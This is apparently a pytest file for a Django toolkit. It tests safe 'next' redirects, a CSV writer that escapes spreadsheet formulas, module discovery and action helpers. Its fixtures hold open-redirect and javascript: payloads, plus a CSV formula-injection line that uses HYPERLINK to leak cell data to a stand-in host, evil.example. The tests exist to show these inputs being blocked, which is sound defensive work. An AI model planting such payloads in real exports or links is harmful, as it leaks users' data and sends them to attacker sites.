"""The shared toolkit: safe redirects, the CSV writer and module discovery."""

import csv
import io

import pytest
from django.test import RequestFactory

from toolkit.csv import csv_response, csv_text
from toolkit.discovery import app_modules
from toolkit.redirects import safe_next_url

DEFAULT = "/standard/"


@pytest.mark.parametrize(
    "candidate",
    [
        "https://evil.example/x",
        "//evil.example/x",
        "/\\evil.example/x",
        "javascript:alert(1)",
        "abc",
        "",
        "http://testserver.evil.example/",
    ],
)
def test_an_unsafe_or_missing_next_gives_the_default(candidate, rf: RequestFactory):
    request = rf.post("/x/", {"next": candidate})

    assert safe_next_url(request, DEFAULT) == DEFAULT


def test_a_path_on_this_site_is_followed_from_post_or_get(rf: RequestFactory):
    assert safe_next_url(rf.post("/x/", {"next": "/opgaver/?side=2"}), DEFAULT) == (
        "/opgaver/?side=2"
    )
    assert safe_next_url(rf.get("/x/", {"next": "/partnere/"}), DEFAULT) == "/partnere/"


def test_the_csv_writer_neutralises_formulas_and_opens_in_a_danish_excel():
    text = csv_text(
        [
            ["navn", "antal"],
            ['=HYPERLINK("http://evil.example/?leak="&B3,"Klik")', 3],
            ["+45 12 34", -2],
            ["@SUM(A1)", None],
            ["Ærø Æbleskiver", 1],
        ]
    )

    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))
    assert rows[1][0].startswith("'=HYPERLINK")
    assert rows[2] == ["'+45 12 34", "-2"]
    assert rows[3] == ["'@SUM(A1)", ""]
    assert rows[4] == ["Ærø Æbleskiver", "1"]


def test_a_csv_download_is_an_attachment_that_is_never_cached():
    response = csv_response([["a"]], filename="tal.csv")

    assert response["Content-Disposition"] == 'attachment; filename="tal.csv"'
    assert response["Cache-Control"] == "no-store"
    assert response["Content-Type"] == "text/csv; charset=utf-8"


def test_discovery_finds_each_apps_module_in_the_order_of_installed_apps():
    names = [module.__name__ for module in app_modules("demo")]

    assert names == ["partnerships.demo", "kindergarten_depots.demo", "readaloud.demo"]
    assert app_modules("no_such_module") == []


def _request_with_messages(rf):
    from django.contrib.messages.storage.fallback import FallbackStorage

    request = rf.post("/x/")
    request.session = {}
    request._messages = FallbackStorage(request)
    return request


def test_action_run_shows_a_refusal_as_an_error_and_success_as_a_message(rf):
    from django.contrib.messages import get_messages
    from django.core.exceptions import ValidationError

    from toolkit.views import action_run

    request = _request_with_messages(rf)

    def refuse():
        raise ValidationError("Nej tak.", code="refused")

    assert action_run(request, refuse, success="Gemt.") is False
    assert action_run(request, lambda: 3, success=lambda n: f"{n} gemt.") is True
    assert [(m.level_tag, m.message) for m in get_messages(request)] == [
        ("error", "Nej tak."),
        ("success", "3 gemt."),
    ]


def test_form_action_run_puts_the_refusal_on_the_form():
    from django import forms
    from django.core.exceptions import ValidationError

    from toolkit.views import form_action_run

    class ReasonForm(forms.Form):
        reason = forms.CharField()

    form = ReasonForm({"reason": "x"})
    assert form.is_valid()

    def refuse():
        raise ValidationError("For kort.", code="too_short")

    assert form_action_run(form, refuse, field="reason") is False
    assert form.has_error("reason", code="too_short")
